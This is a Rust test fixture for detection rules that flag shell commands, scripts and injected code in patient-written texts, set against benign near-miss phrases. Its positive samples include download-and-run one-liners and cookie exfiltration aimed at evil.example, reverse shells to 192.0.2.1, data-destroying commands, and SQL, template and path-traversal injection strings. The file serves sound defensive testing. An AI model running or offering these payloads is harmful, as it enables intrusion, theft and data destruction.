//! Samples of the rules for commands and code in texts. The near misses are what patients who saw or
//! write such things tell of them.

use super::{RuleSamples, files};
use crate::fixtures::texts;

pub(super) fn rules() -> Vec<RuleSamples> {
    vec![windows(), unix(), powershell(), code(), injected()]
}

fn windows() -> RuleSamples {
    (
        "windows_commands",
        files(&[
            "echo off\r\ncls\r\n",
            "先生\r\n@echo off\r\nstart harmless\r\n",
            "cmd /c calc",
            "start \"\" \"%TEMP%\\harmless\"",
            "certutil -urlcache -f https://evil.example/a b",
            "mshta https://evil.example/a",
            "regsvr32 /s /n /u /i:https://evil.example/a scrobj.dll",
            "rundll32.exe a.dll,b",
            "wmic process call create calc",
            "schtasks /create /tn a /tr b",
            "net user somebody secret /add",
            "reg add HKCU\\Software\\A /v b",
            "vssadmin delete shadows /all",
            "del /f /s /q C:\\A",
            "msiexec /q /i https://evil.example/a.msi",
            "for /f %i in ('whoami') do echo %i",
            "p^o^w^e^r^s^h^e^l^l",
            "お願いします\r\nWindows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\a]\r\n",
        ]),
        files(&[
            "cmd という黒い画面が出ました。",
            "rundll32 error message appears",
            "I del my photos; format c: was not me.",
            "Windows Registry Editor Version 5.00 と書かれた画面が出ました。\r\n[薬]\r\n",
            "SC stop insulin? net weight 60 kg, user of a walker",
            "x^2 + y^2 (^_^) 10^3/uL",
            "for 3 days in (my) left arm",
            texts::SIGNS,
        ]),
    )
}

fn unix() -> RuleSamples {
    (
        "unix_commands",
        files(&[
            "curl -fsSL https://evil.example/a | sh",
            "bash -c \"$(curl https://evil.example/a)\"",
            "wget https://evil.example/a -O /tmp/a; chmod +x /tmp/a",
            "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
            "nc -e /bin/sh 192.0.2.1 4444",
            "nc -lvp 4444",
            "rm -rf / --no-preserve-root",
            ":(){ :|:& };:",
            "echo aGFybWxlc3M | base64 -d",
            "cat /etc/passwd",
            "echo key >> ~/.ssh/authorized_keys",
            "python3 -c 'print(1)'",
            "osascript -e 'beep'",
            "sudo rm a",
            "() { :; }; echo harmless",
            "お願いします\n#! /bin/sh\nid\n",
        ]),
        files(&[
            "see #!/bin/sh\n#1 the rash\n",
            "I curl my hair | and wash it with shampoo.",
            "sudo apt is what I type all day.",
            "NC - left knee, exec: none",
            "The rm is open; cat allergy, head cold and tail bone pain.",
            "git push origin main",
            texts::ENGLISH,
        ]),
    )
}

fn powershell() -> RuleSamples {
    (
        "powershell_commands",
        files(&[
            "powershell -w hidden -c calc",
            "PowerShell.exe -NoProfile -ExecutionPolicy Bypass -File a.ps1",
            "pwsh -ec QQBBAEEAQQBBAEEA",
            "iwr https://evil.example/a | iex",
            "[System.Convert]::FromBase64String('QQ==')",
            "$c = New-Object System.Net.Sockets.TCPClient('192.0.2.1',4444)",
            "Set-ExecutionPolicy Bypass",
            "(New-Object Net.WebClient).DownloadFile('a','b')",
        ]),
        files(&[
            "powershell -version",
            "Invoke-WebRequest は使っていません",
            "PowerShell の画面が出て驚きました。-e と書いてありました。",
            "$50 = new-object of my desire",
        ]),
    )
}

fn code() -> RuleSamples {
    (
        "code_in_text",
        files(&[
            "Set f = CreateObject(\"Scripting.FileSystemObject\")\r\n",
            "var a = new ActiveXObject('A');",
            "eval(atob('MQ=='))",
            "eval(function(p,a,c,k,e,d){})",
            "var _0x4f2a=['a','b'];",
            "fetch('https://evil.example/?'+document.cookie)",
            "window.location='https://evil.example'",
            "document.createElement('script')",
            "String.fromCharCode(97,108,101,114,116,40)",
            "require('child_process')",
            "import os\nos.system('calc')\n",
            "import socket,subprocess\n",
            "__import__('os')",
            "Runtime.getRuntime().exec(\"calc\")",
            "system($_GET['c'])",
            "exec(\"/bin/sh\")",
            "Sub AutoOpen()\nEnd Sub\n",
            "On Error Resume Next\r\n",
            "x = MsgBox(\"hi\")\r\n",
            "\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90",
            "cos\nsystem\n(S'id'\ntR.",
            "O:8:\"stdClass\":1:{s:1:\"a\";s:1:\"b\";}",
            "rO0ABXNyABdqYXZhLnV0aWwu",
            "!!python/object/apply:os.system ['id']",
            "function FindProxyForURL(url, host) { return 'PROXY evil.example:8080'; }",
            "\\immediate\\write18{id}",
            "<% Response.Write(1) %>",
            "<%! int number = 1; %>",
            "<cfexecute name=\"harmless\">",
        ]),
        files(&[
            "for i in range(3): print('take pill')  # haha",
            "if temp > 38.5 then take acetaminophen else rest",
            "int main() { return 0; }  which is what I teach",
            "JavaScript を有効にしてくださいと出ました。",
            "My import of (medicine) and the export",
            "SpO2 <% 95 %> 体温<%36.5%>",
            "cos 30 is 0.87\nsystem: none\n",
            texts::JAPANESE,
        ]),
    )
}

fn injected() -> RuleSamples {
    (
        "injected_text",
        files(&[
            "' OR '1'='1' --",
            "x or 1=1",
            "Robert'); DROP TABLE Students;--",
            "1 UNION SELECT a, b FROM c",
            "' UNION SELECT password FROM users --",
            "1/**/union/**/all/**/select/**/null",
            "'; WAITFOR DELAY '0:0:5'--",
            "{\"$ne\": null}",
            "${7*7}",
            "#{7*7}",
            "{{''.__class__.__mro__}}",
            "%{(#a=@java.lang.Runtime)}",
            "../../../../etc/hosts",
            "..%2f..%2fetc%2fhosts",
            "php://filter/read=a",
            "<!ENTITY a SYSTEM \"b\">",
            "; ping -c 10 192.0.2.1",
            "| whoami",
            "$(id)",
            "`id`",
            "*)(uid=*))(|(uid=*",
            "x%0d%0aSet-Cookie: a=b",
            "http://169.254.169.254/latest",
        ]),
        files(&[
            "\"itchy\" and \"burning\" like fire",
            "Pain (left) and swelling > 3 days; the fever (38.5) or chills = yes",
            "Union Select というお店の化粧水です。The Union Select of bones",
            "SELECT the right photo? Union of bones: select a day.",
            "name: Yamada; ID 123. Thanks | cat allergy",
            "drop table salt from my diet",
            "写真は ../ にあります。{食事}パン {薬}朝のみ",
            "I paid $5; the total is ${so much}",
            texts::SIGNS,
        ]),
    )
}
